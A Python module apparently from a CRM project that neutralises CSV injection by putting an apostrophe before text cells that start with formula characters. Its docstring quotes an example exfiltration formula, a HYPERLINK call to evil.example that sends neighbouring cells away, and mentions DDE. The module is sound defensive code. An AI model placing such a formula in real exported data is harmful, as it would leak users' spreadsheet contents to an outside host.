"""CSV for spreadsheets: no cell can be read as a formula (CSV injection).

A spreadsheet that opens a CSV file runs a cell that starts with ``=``, ``+``, ``-`` or
``@`` as a formula — and a tab or carriage return in front does not stop every program
from doing so. A customer called ``=HYPERLINK("http://evil.example/?x="&A1,"click")``
would become a link that sends the neighbouring cells away, or worse (``DDE``). So every
text cell dealercrm writes that starts with one of those characters gets a leading
apostrophe, which spreadsheets show as text and do not evaluate (OWASP's advice). Numbers
are written as numbers: ``-3.5`` stays a number.

Use ``writer(stream)`` wherever dealercrm writes CSV for people; the security suite
(``tests/security/test_csv_injection.py``) finds every CSV writer in the source and
fails on one that does not come from here.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal
from typing import Any

#: what makes a spreadsheet read a cell as a formula
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """The cell as it may be written: text that could start a formula behind an apostrophe."""
    if value is None or isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text


class SafeWriter:
    """``csv.writer`` whose every cell went through ``neutralise``."""

    def __init__(self, stream, **kwargs: Any):
        self._writer = csv.writer(stream, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream, **kwargs: Any) -> SafeWriter:
    return SafeWriter(stream, **kwargs)
